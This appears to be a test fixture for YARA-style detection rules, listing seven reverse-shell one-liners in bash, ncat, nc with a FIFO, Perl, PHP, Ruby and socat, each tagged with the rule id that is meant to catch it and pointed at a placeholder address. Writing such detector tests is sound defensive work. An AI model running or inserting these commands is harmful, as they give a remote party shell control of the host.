#!/bin/bash
# Second forms of each one-liner, with variables for the address.
HOST=192.0.2.10
PORT=4444

# ruleid: yara.reverse_shells.bash_dev_tcp
0<&196;exec 196<>/dev/tcp/$HOST/$PORT; sh <&196 >&196 2>&196

# ruleid: yara.reverse_shells.netcat_exec
ncat "$HOST" "$PORT" --exec /bin/bash

# ruleid: yara.reverse_shells.fifo_shell
mknod /tmp/backpipe p && /bin/sh 0</tmp/backpipe | nc $HOST $PORT 1>/tmp/backpipe

# ruleid: yara.reverse_shells.perl_socket_shell
perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"192.0.2.10:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'

# ruleid: yara.reverse_shells.php_socket_shell
php -r '$s=fsockopen("192.0.2.10",4444);$proc=proc_open("/bin/sh -i", array(0=>$s, 1=>$s, 2=>$s),$pipes);'

# ruleid: yara.reverse_shells.ruby_socket_shell
ruby -rsocket -e 'exit if fork;c=TCPSocket.new("192.0.2.10","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'

# ruleid: yara.reverse_shells.socat_shell
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.10:4444
